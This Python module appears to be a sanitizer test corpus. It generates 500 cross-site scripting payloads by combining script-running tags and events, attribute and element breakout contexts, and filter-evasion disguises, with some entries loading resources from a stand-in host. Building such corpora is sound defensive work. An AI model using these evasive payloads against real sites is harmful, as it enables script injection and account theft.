"""Five hundred ways to have a script run, as strangers write them: tags, events and schemes, in the places of a page
where a text may end up, and written so that filters miss them."""

from __future__ import annotations

from itertools import islice, product

RUN = "window.ran=1"
TAGS = (
    "<script>{run}</script>", "<img src=x onerror={run}>", "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<body onload={run}>", "<iframe src=javascript:{run}></iframe>", '<iframe srcdoc="<script>parent.ran=1</script>">',
    "<a href=javascript:{run}>x</a>", "<details open ontoggle={run}>x</details>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>", "<textarea autofocus onfocus={run}></textarea>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>", "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<form action=javascript:{run}><button autofocus>x</button></form>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<p style=\"background:url('//evil.example/x')\">x</p>",
    "<div onmouseover={run} style='position:fixed;inset:0'>x</div>", "<marquee onstart={run}>x</marquee>",
)  # fmt: skip
PLACES = (
    "{tag}", '">{tag}', "'>{tag}", "</textarea>{tag}", "</title>{tag}", "-->{tag}", "</script>{tag}", "]]>{tag}",
    "</option></select>{tag}", '" autofocus onfocus={run} x="',
)  # fmt: skip
DISGUISES = (
    lambda text: text,
    lambda text: text.swapcase() if "onerror" in text else text.replace("script", "ScRiPt"),
    lambda text: text.replace(" on", "/on").replace("=", " = "),
    lambda text: text.replace("javascript:", "java\tscript:").replace("<", "<\n"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
)


def payloads(count: int = 500) -> list[str]:
    """Different ones, each kind of tag among the first."""
    made = (
        disguise(place.format(tag=tag.format(run=RUN), run=RUN))
        for place, disguise, tag in product(PLACES, DISGUISES, TAGS)
    )
    return list(islice(dict.fromkeys(made), count))
